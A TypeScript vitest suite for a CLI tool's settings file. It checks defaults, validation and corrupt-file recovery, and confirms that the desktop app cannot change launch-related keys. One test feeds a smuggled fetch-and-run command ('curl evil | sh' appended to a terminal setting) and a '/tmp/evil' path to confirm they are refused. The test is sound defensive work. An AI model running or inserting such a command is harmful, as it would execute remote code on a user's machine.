import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { APP_WRITABLE_SETTING_KEYS, writeSetting } from '../../main/app/app-settings.js';
import { plannerSettings } from '../../main/core/planner/planner-settings.js';
import { loadAllSettings, loadSettings, settingsFromObject } from '../../main/core/settings.js';
import { APP_SETTING_KEYS, SETTING_ACCESS, SETTING_KEYS } from '../../main/core/settings-schema.js';

/** Every key of the file, read as the app's Engine reads it (one line of warnings). */
const readAllSettings = (root: string) => {
  const { settings, warning } = loadAllSettings(root);
  return { settings, warnings: warning === null ? [] : [warning] };
};
const readPlannerSettings = (root: string) => ({ settings: plannerSettings(loadSettings(root).settings) });
import { tempRoot } from '../helpers/cli.js';

const file = (root: string): string => path.join(root, 'cco-settings.json');
const onDisk = (root: string): Record<string, unknown> => JSON.parse(fs.readFileSync(file(root), 'utf8')) as Record<string, unknown>;

describe('app settings in the file the CLI uses', () => {
  it('defaults when the file is missing; nothing is written by reading', () => {
    const root = tempRoot();
    const { settings, warnings } = readAllSettings(root);
    expect(settings).toMatchObject({ plan: 'pro', hyperaware: false, notifyQuota: true, notifyContext: true, launchAtLogin: false, terminal: null, claudePath: null, autoScheduleAtCritical: true });
    expect(warnings).toEqual([]);
    expect(fs.existsSync(file(root))).toBe(false);
  });

  it('writes app keys and CLI keys into the same file, keeping every other key (unknown ones too)', () => {
    const root = tempRoot();
    fs.writeFileSync(file(root), JSON.stringify({ plan: 'max5', somethingElse: { kept: true } }));
    writeSetting(root, 'notifyReset', 'off');
    const read = writeSetting(root, 'hyperaware', 'on');
    expect(onDisk(root)).toEqual({ plan: 'max5', somethingElse: { kept: true }, notifyReset: false, hyperaware: true });
    expect(read.settings).toMatchObject({ plan: 'max5', notifyReset: false, hyperaware: true });
    // The CLI reads the same values.
    expect(loadSettings(root).settings.hyperaware).toBe(true);
  });

  it('refuses bad values and unknown keys with a one-line message, leaving the file alone', () => {
    const root = tempRoot();
    writeSetting(root, 'launchAtLogin', 'yes');
    expect(() => writeSetting(root, 'launchAtLogin', 'maybe')).toThrow('launchAtLogin must be true or false (or on/off, yes/no), got "maybe"');
    expect(() => writeSetting(root, 'plan', 'enterprise')).toThrow(/unknown plan "enterprise"/);
    expect(() => writeSetting(root, 'colour', 'blue')).toThrow(/unknown setting "colour": expected one of plan, customLimit, .*notifyQuota/);
    expect(onDisk(root)).toEqual({ launchAtLogin: true });
  });

  it('refuses plan custom until a limit is set (the CLI would refuse every command)', () => {
    const root = tempRoot();
    expect(() => writeSetting(root, 'plan', 'custom')).toThrow('plan "custom" needs a limit: set customLimit first');
    writeSetting(root, 'customLimit', '300,000');
    expect(writeSetting(root, 'plan', 'custom').settings).toMatchObject({ plan: 'custom', customLimit: 300_000 });
  });

  it('never writes what cco executes (terminal, claudePath): a person sets those in a terminal; the launcher still reads them', () => {
    const root = tempRoot();
    fs.writeFileSync(file(root), JSON.stringify({ terminal: ['kitty', '--directory', '{cwd}', '{command}'] }));
    expect(() => writeSetting(root, 'terminal', '["sh","-c","{command}; curl evil | sh"]')).toThrow(
      'terminal decides which program cco runs, so the app cannot change it: set it in a terminal with "cco config set terminal ..." or edit the settings file',
    );
    expect(() => writeSetting(root, 'terminal', 'none')).toThrow(/terminal decides which program cco runs/);
    expect(() => writeSetting(root, 'claudePath', '/tmp/evil')).toThrow(/claudePath decides which program cco runs/);
    expect(onDisk(root)).toEqual({ terminal: ['kitty', '--directory', '{cwd}', '{command}'] });
    expect(readPlannerSettings(root).settings.terminal).toEqual(['kitty', '--directory', '{cwd}', '{command}']);
    expect(readAllSettings(root).settings.claudePath).toBeNull();
    // The unknown-key message lists only what the app may write.
    expect(() => writeSetting(root, 'colour', 'blue')).toThrow(/expected one of plan, .*autoScheduleAtCritical, notifyQuota, .*launchAtLogin$/);
  });

  it('APP_WRITABLE_SETTING_KEYS come from the one settings table: every key but the launch ones', () => {
    expect([...APP_WRITABLE_SETTING_KEYS].sort()).toEqual(
      [...SETTING_KEYS.filter((key) => SETTING_ACCESS[key] === 'preference'), ...APP_SETTING_KEYS].sort(),
    );
    expect(APP_WRITABLE_SETTING_KEYS).not.toContain('terminal');
    expect(APP_WRITABLE_SETTING_KEYS).not.toContain('claudePath');
    // The auto-start runs claude unattended: the app (its IPC, its tray) cannot turn it on or loosen its cap.
    expect(APP_WRITABLE_SETTING_KEYS).not.toContain('autoStartAtReset');
    expect(APP_WRITABLE_SETTING_KEYS).not.toContain('autoStartMaxPerDay');
    const root = tempRoot();
    expect(() => writeSetting(root, 'autoStartAtReset', 'on')).toThrow('autoStartAtReset decides which program cco runs, so the app cannot change it: set it in a terminal with "cco config set autoStartAtReset ..." or edit the settings file');
    expect(() => writeSetting(root, 'autoStartMaxPerDay', '5')).toThrow(/autoStartMaxPerDay decides which program cco runs/);
    expect(fs.existsSync(file(root))).toBe(false);
  });

  it('a bad value in the file falls back to its default with a warning; the rest still applies', () => {
    const { settings, problems } = settingsFromObject({ notifyQuota: 'sometimes', notifyQueue: false, plan: 'ignored here' }, APP_SETTING_KEYS);
    expect(settings).toEqual({ ...settingsFromObject({}, APP_SETTING_KEYS).settings, notifyQueue: false });
    expect(problems.map((problem) => problem.text)).toEqual(['notifyQuota (notifyQuota must be true or false (or on/off, yes/no), got "sometimes"), using the default true']);
    expect(APP_SETTING_KEYS).toEqual(['notifyQuota', 'notifyContext', 'notifySessions', 'notifyReset', 'notifyQueue', 'launchAtLogin']);
    const root = tempRoot();
    fs.writeFileSync(file(root), JSON.stringify({ notifyContext: 3 }));
    expect(readAllSettings(root).warnings).toEqual([`${file(root)}: ignoring invalid notifyContext (notifyContext must be true or false, got 3), using the default true`]);
  });

  it('a corrupt file is moved aside and reported, never silently replaced', () => {
    const root = tempRoot();
    fs.writeFileSync(file(root), '{"plan": "max5",');
    const { settings, warnings } = readAllSettings(root);
    expect(settings.plan).toBe('pro');
    expect(warnings.join(' ')).toMatch(/was corrupt .* moved aside to .*cco-settings\.json\.corrupt-/);
    expect(fs.readdirSync(root).some((name) => name.startsWith('cco-settings.json.corrupt-'))).toBe(true);
  });
});
